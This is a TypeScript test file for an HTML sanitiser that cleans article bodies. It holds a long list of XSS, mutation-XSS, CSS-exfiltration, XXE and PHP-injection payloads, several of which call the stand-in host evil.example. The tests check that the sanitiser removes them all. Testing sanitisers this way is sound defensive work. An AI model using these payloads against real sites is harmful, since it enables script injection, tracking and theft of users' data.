import { load } from 'cheerio';
import { describe, expect, test } from 'vitest';
import { DomainError } from '#shared/domain/errors.ts';
import { allowedAttributes, allowedElements } from './body/body-policy.ts';
import { sanitiseHtml } from './sanitise-html.ts';

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script\x20type="text/javascript">alert(1);</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`x` onerror=`alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src=jav&#x09;ascript:alert(1)>',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<img srcset="https://evil.example/p.png 1x">',
  '<img src="https://evil.example/track.gif?c=1">',
  '<img src="//evil.example/track.gif">',
  '<img src="/\\evil.example/track.gif">',
  '<img src="\\\\evil.example/track.gif">',
  '<img src="https://local.invalid@evil.example/a.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="https://www.gov.cn@evil.example/">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="x" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-image:url(https://evil.example/?c)">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<style>@import "https://evil.example/x.css"; a[href^="a"]{background:url(//evil.example/a)}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x.class"></applet>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<video src="https://evil.example/v.mp4" poster="javascript:alert(1)"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<p class="signature site-header"onmouseover=alert(1)>x</p><p class=signature/onclick=alert(1)>y</p>',
  '<p id="__proto__">x</p><p id="constructor">y</p>',
  '<a name="getElementById" id="location" href="#x">x</a>',
  '<constructor>x</constructor><__proto__ onclick=alert(1)>x</__proto__>',
  '<p/onclick=alert(1)>x</p>',
  '<p onclick\n=\n"alert(1)">x</p>',
  '<p title=`" onclick=alert(1) x=`>x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php system("id") ?><p>x</p>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>&e;</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>&#x3C;img src=x onerror=alert(1)&#x3E;</p>',
  '<p>\u0000<img src=x on\u0000error=alert(1)></p>',
  '＜script＞alert(1)＜/script＞<p>x</p>',
  '<img alt="<x" title="/><img src=a onerror=alert(1)>" src="/a.png">',
  '<td><p></td></tr></table><img src=x onerror=alert(1)>',
];

const safeAddress = /^(?:https?:\/\/|mailto:|tel:|\/(?!\/)|#a-)/;

/** Reads the answer with another parser, the one that follows the HTML standard, and looks for what must not be. */
const faults = (html: string): string[] => {
  const $ = load(html);
  return $('body *')
    .toArray()
    .flatMap((element) => {
      const faulty = Object.entries(element.attribs).flatMap(([name, value]) => {
        if (!allowedAttributes(element.name).includes(name)) return [`${element.name} ${name}`];
        if (name === 'class' && value !== 'signature') return [`${element.name} ${name}=${value}`];
        if (name === 'href' && !safeAddress.test(value)) return [`${element.name} ${name}=${value}`];
        if ((name === 'src' || name === 'poster') && !/^\/(?!\/)/.test(value))
          return [`${element.name} ${name}=${value}`];
        return [];
      });
      return Object.hasOwn(allowedElements, element.name) ? faulty : [element.name, ...faulty];
    });
};

describe('given an attack in the body of an article', () => {
  test.each(vectors)('[SEC-03] when %j is sanitised, then a browser finds nothing to run or fetch', (vector) => {
    const once = sanitiseHtml(`<p>前</p>${vector}<p>后</p>`).html;
    expect(faults(once)).toEqual([]);
    expect(sanitiseHtml(once).html).toBe(once);
    expect(
      sanitiseHtml(vector, { baseUrl: 'https://www.yunlan.gov.cn/a/b.html', mediaHosts: ['img.yunlan.gov.cn'] }).html,
    ).not.toMatch(/<[^>]*(?:javascript:|\son\w+\s*=|evil\.example\/(?!"))/i);
  });

  test('when the corpus is not sanitised, then the judge of these tests does find faults', () => {
    expect(vectors.filter((vector) => faults(vector).length > 0).length).toBeGreaterThan(70);
  });

  test('when thousands of elements are left open, then the body is refused at once', () => {
    const started = performance.now();
    expect(() => sanitiseHtml('<b>'.repeat(50_000) + '</i>'.repeat(50_000))).toThrow(DomainError);
    expect(() => sanitiseHtml('<b></i>'.repeat(50_000))).toThrow(DomainError);
    expect(performance.now() - started).toBeLessThan(2000);
  });
});

describe('given an ordinary body', () => {
  test('[CNT-32] when it carries presentation, then structure stays and presentation goes without a word', () => {
    const { html, removed } = sanitiseHtml(
      '<h1 class="t">标题</h1><p align="center" style="color:red"><font face="宋体"><b>加粗</b></font></p>' +
        '<table border="1"><caption>表</caption><tr><th scope="row" colspan="2" bgcolor="red">甲</th></tr></table>',
    );
    expect(html).toBe(
      '<h2>标题</h2><p><strong>加粗</strong></p><table><caption>表</caption><tr><th scope="row" colspan="2">甲</th></tr></table>',
    );
    expect(removed).toEqual([]);
  });

  test('[CNT-32] when a paragraph is the signature, then it alone keeps that one class', () => {
    const { html } = sanitiseHtml(
      '<p class="MsoNormal signature">市教育局</p><p class="signature&quot; onclick=&quot;x">日期</p><p class="signatures">甲</p><h2 class="signature">乙</h2>',
    );
    expect(html).toBe('<p class="signature">市教育局</p><p>日期</p><p>甲</p><h2>乙</h2>');
    expect(sanitiseHtml(html).html).toBe(html);
  });

  test('when something is taken out, then it is named once', () => {
    const { removed } = sanitiseHtml(
      '<p onclick="x">a<script>1</script><script>2</script><img src="https://other.example/a.png"></p>',
    );
    expect(removed).toEqual(['p onclick', 'script', 'img src https://other.example/a.png']);
  });

  test('when containers part the text, then the parts become paragraphs', () => {
    expect(sanitiseHtml('<div>甲<div>乙</div></div>丙<ul><li><div>丁</div></li></ul>').html).toBe(
      '<p>甲</p>\n<p>乙</p>\n<p>丙</p>\n<ul><li>丁</li></ul>',
    );
  });

  test('when anchors and links belong together, then both get the same prefix, and only once', () => {
    const once = sanitiseHtml('<a href="#第一章">一</a><h2 id="第一章">第一章</h2>').html;
    expect(once).toBe('<a href="#a-第一章">一</a><h2 id="a-第一章">第一章</h2>');
    expect(sanitiseHtml(once).html).toBe(once);
  });

  test('when a base address is given, then relative links and pictures are resolved against it', () => {
    const policy = { baseUrl: 'https://www.yunlan.gov.cn/zwgk/t1.html', mediaHosts: ['www.yunlan.gov.cn'] };
    expect(sanitiseHtml('<a href="./W1.pdf">附件</a><img src="../p.jpg" alt="图">', policy).html).toBe(
      '<a href="https://www.yunlan.gov.cn/zwgk/W1.pdf">附件</a><img src="https://www.yunlan.gov.cn/p.jpg" alt="图" />',
    );
  });

  test('when text holds ampersands, quotes and rare characters, then a reader sees the same', () => {
    const { html } = sanitiseHtml('<p>A&amp;B &lt;x&gt; "引" &nbsp;𠮷</p>');
    expect(load(html)('p').text()).toBe('A&B <x> "引" \u00a0𠮷');
  });
});
